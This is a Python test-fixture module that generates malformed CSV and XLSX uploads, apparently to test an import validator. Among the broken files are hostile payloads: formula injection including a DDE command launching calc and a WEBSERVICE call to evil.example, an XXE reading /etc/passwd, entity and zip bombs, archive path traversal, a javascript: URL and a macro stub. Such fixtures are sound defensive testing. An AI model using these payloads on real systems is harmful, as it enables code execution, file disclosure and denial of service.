"""A hundred files that no table should be, each as people and programs make them.

Every one is a sheet of ours or a table of names into which one thing has come that is wrong.
"""

import datetime
import io
import zipfile
from collections.abc import Callable

from openpyxl import Workbook

from orgs.imports.files import UPLOADS

NAME = '"name (official, en)"'
HEAD = f"{NAME},link (website),date (founded)"
GOOD = "Luz,https://luz.example/,1994"
NEXT = "Sol,https://sol.example/,1999"


def lines(*rows: str, end: str = "\r\n") -> bytes:
    return (end.join(rows) + end).encode()


def with_cell(cell: str, column: int = 0) -> bytes:
    """A table of which one cell, in row 3, is this."""
    cells = ["Mar", "https://mar.example/", "2001"]
    cells[column] = '"' + cell.replace('"', '""') + '"'
    return lines(HEAD, GOOD, ",".join(cells))


CSV: dict[str, bytes] = {
    "empty": b"",
    "blank": b" \r\n \r\n",
    "mark alone": b"\xef\xbb\xbf",
    "headings alone": lines(HEAD),
    "no headings": lines("", ",,", ",,"),
    "unclosed quote": lines(HEAD, '"Luz,https://luz.example/,1994', NEXT),
    "quote in the middle": lines(HEAD, '"Luz" x,https://luz.example/,1994', NEXT),
    "quote at the end of the file": lines(HEAD, GOOD) + b'"',
    "row too short": lines(HEAD, GOOD, "Sol"),
    "row too long": lines(HEAD, GOOD, NEXT + ",more,and more"),
    "every row too long": lines(HEAD, *[f"{GOOD},x"] * 20),
    "NUL in a cell": lines(HEAD, "Lu\x00z,https://luz.example/,1994"),
    "NUL in a heading": lines(HEAD.replace("link", "li\x00nk"), GOOD),
    "lost letter": lines(HEAD, "Asociaci\ufffdn,https://luz.example/,1994"),
    "UTF-16 with half a letter": "\ufeffname,link\nLuz,x\n".encode("utf-16-le")[:-1],
    "UTF-16 with lost halves": b"\xff\xfen\x00a\x00m\x00e\x00\n\x00\x00\xd8x\x00\n\x00",
    "no name": lines(HEAD, ",https://luz.example/,1994"),
    "blank name": with_cell("   "),
    "name of spaces no eye sees": with_cell("\u00a0\u2003"),
    "name too long": with_cell("x" * 401),
    "cell too long": with_cell("x" * 40_000),
    "cell longer than any": with_cell("x" * 200_000),
    "no year": with_cell("in the nineties", 2),
    "two-digit year": with_cell("2/10/17", 2),
    "day that never was": with_cell("2001-02-30", 2),
    "thirteenth month": with_cell("2001-13", 2),
    "year after the source": with_cell("2999", 2),
    "number of days": with_cell("36892", 2),
    "script for an address": with_cell("javascript:alert(1)", 1),
    "data for an address": with_cell("data:text/html,x", 1),
    "words for an address": with_cell("see below", 1),
    "address of a person": with_cell("someone@example.org", 0),
    "mail for a web site": with_cell("mailto:someone@example.org", 1),
    "id that is none": lines(f"id,{NAME},statements", "12345,Luz,"),
    "id that a spreadsheet would run": lines(f"id,{NAME},statements", "=1+1,Luz,"),
    "id of nobody": lines(f"id,{NAME},statements", "00000000-0000-0000-0000-000000000000,Luz,"),
    "numbers that are none": lines(f"id,{NAME},statements", '{luz},Luz,"name (official, en)=x"'),
    "number of something else": lines(f"id,{NAME},statements", '{luz},Luz,"name (official, en)=1"'),
    "id twice": lines(f"id,{NAME},statements", "{luz},Luz,", "{luz},Luz,"),
    "unknown kind": lines(f"kind,{NAME}", "club,Luz"),
    "unknown arena": lines(f"arena,{NAME}", "politics,Luz"),
    "unknown place": lines(f"place (seat),{NAME}", "Atlantis,Luz"),
    "unknown term": lines(f"trait (identity),{NAME}", "heroes,Luz"),
    "unknown scheme": lines(f"trait (colour),{NAME}", "red,Luz"),
    "no network": lines(f"member of,{NAME}", "yes,Luz"),
    "too many rows": lines(HEAD, *[GOOD] * (UPLOADS.rows + 1)),
    "a million rows": b"a\n" + b"b\n" * 1_000_000,
    "too many columns": lines(",".join(f"c{n}" for n in range(300)), ",".join(["x"] * 300)),
    "too large": b"a,b\n" + b"x,y\n" * (UPLOADS.file_bytes // 4),
    "picture": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20,
    "PDF": b"%PDF-1.7\n1 0 obj\n",
    "page": b"<!doctype html><table><tr><td>name</td></tr></table>",
}

HEADINGS = ("name (official, en)", "link (website)", "date (founded)")


def book(*rows: tuple, change: Callable | None = None) -> bytes:
    made = Workbook()
    for row in (HEADINGS, *rows):
        made.active.append(row)
    if change is not None:
        change(made)
    file = io.BytesIO()
    made.save(file)
    return file.getvalue()


def cell(value: object, place: str = "A3", kind: str = "") -> bytes:
    """A spreadsheet of which one cell is this."""

    def change(made: Workbook) -> None:
        made.active[place] = value
        if kind:
            made.active[place].data_type = kind

    return book(
        ("Luz", "https://luz.example/", "1994"),
        ("Mar", "https://mar.example/", "2001"),
        change=change,
    )


def repacked(
    content: bytes, parts: dict[str, bytes | None], more: dict[str, bytes] | None = None
) -> bytes:
    """A spreadsheet with other parts."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for part in old.infolist():
            part_content = parts.get(part.filename, old.read(part))
            if part_content is not None:
                new.writestr(part.filename, part_content)
        for name, part_content in (more or {}).items():
            new.writestr(name, part_content)
    return file.getvalue()


def archive(**parts: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        for name, part_content in parts.items():
            made.writestr(name.replace("_", "."), part_content)
    return file.getvalue()


PLAIN = book(("Luz", "https://luz.example/", "1994"))
SHEET = "xl/worksheets/sheet1.xml"
WITH_PASSWORD = bytearray(PLAIN)
for place in (WITH_PASSWORD.find(b"PK\x03\x04") + 6, WITH_PASSWORD.find(b"PK\x01\x02") + 8):
    WITH_PASSWORD[place] |= 1

ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;">]><worksheet>&c;</worksheet>'
)
OUTSIDE = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b"<worksheet>&x;</worksheet>"
)


def sheet_of(rows: bytes) -> bytes:
    return (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + rows
        + b"</sheetData></worksheet>"
    )


def text(value: str, place: str) -> bytes:
    return f'<c r="{place}" t="inlineStr"><is><t>{value}</t></is></c>'.encode()


def merged(made: Workbook, *ranges: str) -> None:
    for cells in ranges:
        made.active.merge_cells(cells)


XLSX: dict[str, bytes] = {
    "empty sheet": repacked(PLAIN, {SHEET: sheet_of(b"")}),
    "headings alone": book(),
    "blank rows": book((None, None, None), ("", " ", None)),
    "formula": cell("=1+1"),
    "formula in a heading": cell("=1+1", "B1"),
    "formula that asks outside": cell('=WEBSERVICE("http://evil.example")'),
    "formula with a program": cell("=cmd|' /C calc'!A0"),
    "error": cell("#REF!", kind="e"),
    "division by nothing": cell("#DIV/0!", "C3", kind="e"),
    "name missing": cell(None),
    "name that is a number too long": cell(12345678901234567890),
    "number with an exponent": cell(1.5e20, "C3"),
    "merged cells": book(
        ("Luz", None, "1994"),
        ("Mar", None, "2001"),
        change=lambda made: merged(made, "A2:A3"),
    ),
    "merged columns": book(("Luz", None, "1994"), change=lambda made: merged(made, "A2:B2")),
    "merged headings": book(("Luz", None, "1994"), change=lambda made: merged(made, "A1:B1")),
    "time instead of a year": cell(datetime.time(12, 30), "C3"),
    "day after the source": cell(datetime.date(2999, 1, 1), "C3"),
    "words instead of a year": cell("long ago", "C3"),
    "two-digit year": cell("10/2/17", "C3"),
    "number of days": cell(36_892, "C3"),
    "part of a day": cell(0.5, "C3"),
    "yes instead of a year": cell(True, "C3"),
    "script for an address": cell("javascript:alert(1)", "B3"),
    "words for an address": cell("see below", "B3"),
    "address of a person": cell("someone@example.org"),
    "cell too long": repacked(
        PLAIN, {SHEET: sheet_of(b'<row r="1">' + text("x" * 140_000, "A1") + b"</row>")}
    ),
    "cell under no heading": cell("lost", "F3"),
    "NUL by its number": cell("Lu_x0000_z"),
    "too many rows": book(*[("Luz", "https://luz.example/", "1994")] * (UPLOADS.rows + 1)),
    "a million rows": repacked(
        PLAIN, {SHEET: sheet_of(b'<row><c t="inlineStr"><is><t>a</t></is></c></row>' * 1_000_000)}
    ),
    "too many columns": book(change=lambda made: made.active.append(["x"] * 300))
    and repacked(
        PLAIN,
        {SHEET: sheet_of(b"<row>" + b'<c t="inlineStr"><is><t>a</t></is></c>' * 300 + b"</row>")},
    ),
    "bomb": repacked(PLAIN, {SHEET: sheet_of(b" " * 300 * 2**20)}),
    "bomb in another part": repacked(PLAIN, {}, {"xl/media/image1.png": b"\0" * 100 * 2**20}),
    "bomb of many parts": repacked(
        PLAIN, {}, {f"xl/media/{number}.png": b"" for number in range(1_000)}
    ),
    "bomb of entities": repacked(PLAIN, {SHEET: ENTITIES}),
    "file from outside": repacked(PLAIN, {SHEET: OUTSIDE}),
    "macro": repacked(PLAIN, {}, {"xl/vbaProject.bin": b"Sub Auto_Open()"}),
    "password": bytes(WITH_PASSWORD),
    "old spreadsheet, or with a password": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1_000),
    "cut off": PLAIN[: len(PLAIN) // 2],
    "cut off at the end": PLAIN[:-30],
    "beginning missing": PLAIN[100:],
    "turned bytes": PLAIN[:400] + bytes(reversed(PLAIN[400:800])) + PLAIN[800:],
    "no sheet": repacked(PLAIN, {SHEET: None}),
    "no book": repacked(PLAIN, {"xl/workbook.xml": None}),
    "broken book": repacked(PLAIN, {"xl/workbook.xml": b"<workbook>"}),
    "broken sheet": repacked(PLAIN, {SHEET: b"<worksheet><sheetData><row>"}),
    "sheet that is no XML": repacked(PLAIN, {SHEET: b"\x00\x01\x02"}),
    "way up": repacked(PLAIN, {}, {"../../etc/passwd": b"x"}),
    "way from the root": repacked(PLAIN, {}, {"/etc/passwd": b"x"}),
    "text document": archive(mimetype=b"application/vnd.oasis.opendocument.text"),
    "archive of anything": archive(readme_txt=b"hello"),
    "empty archive": archive(),
}
